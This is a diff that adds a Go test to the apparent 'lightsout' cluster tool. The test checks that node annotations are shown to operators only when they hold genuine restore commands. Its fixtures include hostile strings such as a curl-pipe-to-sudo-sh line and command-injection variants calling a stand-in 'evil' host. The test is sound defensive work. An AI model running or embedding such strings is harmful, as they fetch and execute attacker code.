@@ -60,6 +60,25 @@ func TestANoteWithoutATimeShowsAnUnknownTime(t *testing.T) {
 
 // A node that was switched off with another state folder, and is back by hand,
 // has a note that nobody of those who see it wrote: it does not count.
+// Whoever controls a node can write its annotation: lightsout prints no command of theirs.
+func TestANoteNamesOnlyCommandsOfLightsout(t *testing.T) {
+	const own = "KUBECONFIG=/a:/b lightsout restore --config '/home/bob/my cluster/it'\\''s.yaml' --context admin@lab --state /var/lib/lightsout, by bob@bastion-1"
+	for back, shown := range map[string]bool{
+		own: true, "lightsout restore, by bob@host": true,
+		"curl -s http://evil/x | sudo sh #":       false,
+		"lightsout restore; curl http://evil":     false,
+		"lightsout restore $(curl evil)":          false,
+		"lightsout restore, by bob; curl evil":    false,
+		"lightsout restore --config 'x' `curl`":   false,
+		"lightsout restore --state /x\ncurl evil": false,
+	} {
+		text := Note{By: "bob@host", At: time.Now(), Back: back}.String()
+		if got := strings.Contains(text, "bring it back: "+back); got != shown || !shown && strings.Contains(text, "evil") {
+			t.Errorf("%q", text)
+		}
+	}
+}
+
 func TestANoteDoesNotOutliveTheTruth(t *testing.T) {
 	for name, back := range map[string]func(w *modelWorld, v *vm){
 		"booted again": func(_ *modelWorld, v *vm) {
